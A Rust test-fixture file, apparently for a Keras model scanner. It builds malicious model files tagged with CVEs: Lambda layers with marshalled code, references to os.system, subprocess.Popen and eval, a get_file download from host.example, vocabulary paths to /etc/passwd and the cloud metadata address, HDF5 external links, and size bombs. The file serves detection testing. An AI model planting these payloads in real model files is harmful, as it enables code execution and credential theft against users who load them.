//! Attacks on whoever loads a Keras model: code in layers, functions named by a configuration, files and sizes that are none.

use super::{Attack, Expect, one_file};
use crate::hdf5;
use crate::protobuf::Message;

macro_rules! attack {
    ($name:literal, $rule:literal, $advisories:expr, $expect:ident, $file:literal, $build:expr) => {
        Attack {
            name: concat!("keras-", $name),
            rule: $rule,
            advisories: $advisories,
            expect: Expect::$expect,
            build: || one_file($file, $build),
        }
    };
}

/// The attacks.
pub const ATTACKS: &[Attack] = &[
    attack!("lambda", "keras/lambda", &["CVE-2024-3660"], Malicious, "config.json", model(&lambda())),
    attack!("lambda-new-style", "keras/lambda", &["CVE-2024-3660"], Malicious, "config.json", model(&layer(
        "keras.layers", "Lambda", &format!(r#"{{"name":"l","function":{{"class_name":"__lambda__","config":{{"code":"{CODE}"}}}}}}"#)
    ))),
    attack!("lambda-in-wrapper", "keras/lambda", &["CVE-2024-3660"], Malicious, "config.json", model(&layer(
        "keras.layers", "TimeDistributed", &format!(r#"{{"layer":{}}}"#, lambda())
    ))),
    attack!("lambda-beside-saved-model", "keras/lambda", &["CVE-2024-3660"], Malicious, "keras_metadata.pb", metadata(&lambda())),
    attack!("lambda-in-hdf5", "keras/lambda", &["CVE-2025-9905"], Malicious, "model.h5", in_hdf5(&model(&lambda()))),
    attack!("module-function", "keras/callable", &["CVE-2025-1550"], Malicious, "config.json", model(&function("os", "system"))),
    attack!("module-class", "keras/callable", &["CVE-2025-1550"], Malicious, "config.json", model(&layer("subprocess", "Popen", r#"{"args":["true"]}"#))),
    attack!("builtins-eval", "keras/callable", &["CVE-2025-1550"], Malicious, "config.json", model(&function("builtins", "eval"))),
    attack!("module-of-package", "keras/callable", &["CVE-2025-1550"], Malicious, "config.json", model(&function("numpy.testing", "runstring"))),
    attack!("module-through-keras", "keras/callable", &["CVE-2025-1550"], Malicious, "config.json", model(&function("keras.src.utils.file_utils.os", "system"))),
    attack!("registered-name", "keras/callable", &["CVE-2025-1550"], Malicious, "config.json", model(
        r#"{"module":"os","class_name":"system","config":{},"registered_name":"Custom>Nice"}"#
    )),
    attack!("in-compile-config", "keras/callable", &["CVE-2025-1550"], Malicious, "config.json", format!(
        r#"{{"module":"keras","class_name":"Sequential","config":{{"layers":[]}},"compile_config":{{"loss":{}}}}}"#, function("posix", "system")
    ).into_bytes()),
    attack!("in-training-config", "keras/callable", &["CVE-2025-9905"], Malicious, "model.h5", with_training()),
    attack!("get-file", "keras/harmful-function", &["CVE-2025-8747", "CVE-2025-12060"], Malicious, "config.json", model(&function("keras.utils", "get_file"))),
    attack!("get-file-unpacking", "keras/harmful-function", &["CVE-2025-8747"], Malicious, "config.json", model(&layer(
        "keras.utils", "get_file", r#"{"origin":"http://host.example/x.tar","extract":true}"#
    ))),
    attack!("load-model", "keras/harmful-function", &[], Malicious, "config.json", model(&function("keras.models", "load_model"))),
    attack!("unsafe-deserialization", "keras/unsafe-deserialization", &["CVE-2025-9906"], Malicious, "config.json", model(
        &function("keras.config", "enable_unsafe_deserialization")
    )),
    attack!("torch-module", "keras/torch-module", &["CVE-2025-49655"], Malicious, "config.json", model(&layer("keras.layers", "TorchModuleWrapper", r#"{"module":"x"}"#))),
    attack!("vocabulary-file", "keras/vocabulary-escape", &["CVE-2025-12058"], Malicious, "config.json", model(&layer(
        "keras.layers", "StringLookup", r#"{"vocabulary":"/etc/passwd"}"#
    ))),
    attack!("vocabulary-address", "keras/vocabulary-escape", &["CVE-2025-12058"], Malicious, "config.json", model(&layer(
        "keras.layers", "IndexLookup", r#"{"vocabulary":"http://169.254.169.254/latest/meta-data"}"#
    ))),
    attack!("vocabulary-parent", "keras/vocabulary-escape", &["CVE-2025-12058"], Malicious, "config.json", model(&layer(
        "keras.layers", "TextVectorization", r#"{"vocabulary":"../../secret"}"#
    ))),
    attack!("operator-reads-file", "keras/harmful-function", &[], Malicious, "config.json", model(&layer(
        "tensorflow.keras.layers", "TFOpLambda", r#"{"function":"io.read_file"}"#
    ))),
    attack!("custom-object", "keras/custom-object", &[], Suspicious, "config.json", model(
        r#"{"module":"my_project.layers","class_name":"MyLayer","config":{},"registered_name":"Custom>MyLayer"}"#
    )),
    attack!("saved-model-layer", "keras/foreign-model", &[], Suspicious, "config.json", model(&layer("keras.layers", "TFSMLayer", r#"{"filepath":"x"}"#))),
    attack!("size-bomb", "keras/size-bomb", &["CVE-2026-0897"], Suspicious, "config.json", model(&layer(
        "keras.layers", "Dense", r#"{"units":1000000000000}"#
    ))),
    attack!("nested", "unreadable/damaged", &[], Unreadable, "config.json", {
        let deep = 10_000;
        model(&format!("{}{}", "[".repeat(deep), "]".repeat(deep)))
    }),
    attack!("truncated", "unreadable/truncated", &[], Unreadable, "config.json", {
        let mut bytes = model(&layer("keras.layers", "Dense", r#"{"units":1}"#));
        bytes.truncate(bytes.len() - 3);
        bytes
    }),
    attack!("hdf5-external-storage", "hdf5/external-storage", &["CVE-2026-1669"], Malicious, "model.weights.h5", external_storage("/etc/passwd")),
    attack!("hdf5-external-link", "hdf5/external-link", &["CVE-2026-1669"], Malicious, "model.weights.h5", one_link(hdf5::external_link("w", "/etc/passwd", "/"))),
    attack!("hdf5-external-link-below", "hdf5/external-link", &["CVE-2026-1669"], Malicious, "model.h5", {
        let mut file = hdf5::File::new();
        let inner = file.object(&[hdf5::group(), hdf5::external_link("w", "other.h5", "/secret")]);
        let root = file.object(&[hdf5::group(), hdf5::link("model_weights", inner)]);
        file.finish(root)
    }),
    attack!("hdf5-virtual", "hdf5/virtual-dataset", &["CVE-2026-1669"], Malicious, "model.h5", dataset(&[4], hdf5::virtual_layout())),
    attack!("hdf5-user-link", "hdf5/user-link", &[], Suspicious, "model.h5", one_link(hdf5::user_link("w"))),
    attack!("hdf5-shape-bomb", "hdf5/shape-bomb", &["CVE-2026-0897"], Suspicious, "model.weights.h5", dataset(&[1 << 20, 1 << 20], hdf5::chunked(&[1, 1]))),
    attack!("hdf5-shape-bomb-nothing-stored", "hdf5/shape-bomb", &["CVE-2026-0897"], Suspicious, "model.weights.h5", dataset(&[1 << 40], hdf5::contiguous(hdf5::NONE, 0))),
    attack!("hdf5-shape-overflow", "hdf5/shape-bomb", &["CVE-2026-0897"], Suspicious, "model.weights.h5", dataset(&[1 << 40, 1 << 40], hdf5::contiguous(hdf5::NONE, 0))),
    attack!("hdf5-loop", "hdf5/loop", &[], Suspicious, "model.h5", {
        let mut file = hdf5::File::new();
        let root = file.next();
        // The header is padded to a multiple of eight: this is its own address.
        let root = file.object(&[hdf5::group(), hdf5::link("again", root)]);
        file.finish(root)
    }),
    attack!("hdf5-header-loop", "unreadable/damaged", &[], Unreadable, "model.h5", {
        let mut file = hdf5::File::new();
        let own = file.next() + 16;
        let root = file.object(&[hdf5::group(), (0x10, [own.to_le_bytes(), 24_u64.to_le_bytes()].concat())]);
        file.finish(root)
    }),
    attack!("hdf5-nested-groups", "unreadable/budget", &[], Unreadable, "model.h5", {
        let mut file = hdf5::File::new();
        let mut inner = file.object(&[hdf5::group()]);
        for _ in 0..10_000 {
            inner = file.object(&[hdf5::group(), hdf5::link("g", inner)]);
        }
        file.finish(inner)
    }),
    attack!("hdf5-truncated", "unreadable/truncated", &[], Unreadable, "model.h5", {
        let mut bytes = benign_hdf5();
        bytes.truncate(bytes.len() - 20);
        bytes
    }),
    attack!("hdf5-block-length-lie", "unreadable/budget", &[], Unreadable, "model.h5", {
        let mut file = hdf5::File::new();
        let root = file.object(&[hdf5::group(), (0x10, [8_u64.to_le_bytes(), (1_u64 << 40).to_le_bytes()].concat())]);
        file.finish(root)
    }),
];

/// A marshalled function that does nothing, with telling texts: what stands in real layers has the same form.
const CODE: &str = "4wAAAAAAAAAAAAAAAHoCb3N6BnN5c3RlbXoCaWQ=";

fn lambda() -> String {
    layer(
        "keras.layers",
        "Lambda",
        &format!(r#"{{"name":"l","function":["{CODE}",null,null],"function_type":"lambda"}}"#),
    )
}

fn layer(module: &str, class: &str, config: &str) -> String {
    format!(r#"{{"module":"{module}","class_name":"{class}","config":{config},"registered_name":null}}"#)
}

fn function(module: &str, name: &str) -> String {
    format!(r#"{{"module":"{module}","class_name":"function","config":"{name}","registered_name":"{name}"}}"#)
}

/// A model of an input and one more layer.
pub fn model(layer: &str) -> Vec<u8> {
    format!(
        r#"{{"module":"keras","class_name":"Sequential","config":{{"name":"tests","layers":[{{"module":"keras.layers","class_name":"InputLayer","config":{{"batch_shape":[null,3],"dtype":"float32","name":"x"}},"registered_name":null}},{layer}]}},"registered_name":null,"build_config":{{"input_shape":[null,3]}}}}"#
    )
    .into_bytes()
}

/// A model with a layer that Keras has.
pub fn benign() -> Vec<u8> {
    model(&layer("keras.layers", "Dense", r#"{"name":"d","units":2,"activation":"relu","rate":NaN}"#))
}

/// The configuration of a layer as Keras keeps it beside a saved model.
pub const DENSE: &str = r#"{"name":"d","trainable":true,"class_name":"Dense","config":{"name":"d","units":2,"activation":"relu"}}"#;

/// What Keras keeps beside a saved model of TensorFlow: the model with its layer, the layer once more, and a metric without a
/// configuration.
pub fn metadata(layer: &str) -> Vec<u8> {
    let whole =
        format!(r#"{{"name":"s","class_name":"Sequential","config":{{"name":"s","layers":[{layer}]}}}}"#);
    let object = |number: u64, path: &str, identifier: &str, configuration: &str| {
        let place = Message::new().varint(2, number).bytes(3, path).bytes(4, identifier);
        place.bytes(5, configuration).message(6, Message::new().varint(1, 2))
    };
    Message::new()
        .message(1, object(0, "root", "_tf_keras_sequential", &whole))
        .message(1, object(1, "root.layer-0", "_tf_keras_layer", layer))
        .message(1, object(2, "root.keras_api.metrics.0", "_tf_keras_metric", ""))
        .build()
}

/// The same in HDF5, with its weights.
pub fn benign_hdf5() -> Vec<u8> {
    in_hdf5(&benign())
}

fn in_hdf5(model: &[u8]) -> Vec<u8> {
    hdf5_with(&[hdf5::text("model_config", &String::from_utf8_lossy(model))])
}

fn with_training() -> Vec<u8> {
    let training = format!(r#"{{"loss":{}}}"#, function("os", "system"));
    let model = String::from_utf8_lossy(&benign()).into_owned();
    hdf5_with(&[hdf5::text("model_config", &model), hdf5::text("training_config", &training)])
}

fn hdf5_with(attributes: &[hdf5::Message]) -> Vec<u8> {
    let mut file = hdf5::File::new();
    let values = file.put(&[0; 24]);
    let weight = file.object(&[hdf5::shape(&[3, 2]), hdf5::float(), hdf5::contiguous(values, 24)]);
    let group = file.object(&[
        hdf5::group(),
        hdf5::link("kernel", weight),
        hdf5::soft_link("same", "/model_weights/kernel"),
    ]);
    let mut messages =
        vec![hdf5::group(), hdf5::text("keras_version", "3.15.1"), hdf5::text("backend", "numpy")];
    messages.extend_from_slice(attributes);
    messages.push(hdf5::link("model_weights", group));
    let root = file.object(&messages);
    file.finish(root)
}

fn one_link(link: hdf5::Message) -> Vec<u8> {
    let mut file = hdf5::File::new();
    let root = file.object(&[hdf5::group(), link]);
    file.finish(root)
}

fn dataset(sizes: &[u64], layout: hdf5::Message) -> Vec<u8> {
    let mut file = hdf5::File::new();
    let weight = file.object(&[hdf5::shape(sizes), hdf5::float(), layout]);
    let root = file.object(&[hdf5::group(), hdf5::link("w", weight)]);
    file.finish(root)
}

fn external_storage(path: &str) -> Vec<u8> {
    let mut file = hdf5::File::new();
    let (heap, names) = file.names(&[path]);
    let weight = file.object(&[
        hdf5::shape(&[16]),
        hdf5::float(),
        hdf5::contiguous(hdf5::NONE, 0),
        hdf5::external_files(heap, &[(names[0], 0, 64)]),
    ]);
    let root = file.object(&[hdf5::group(), hdf5::link("w", weight)]);
    file.finish(root)
}
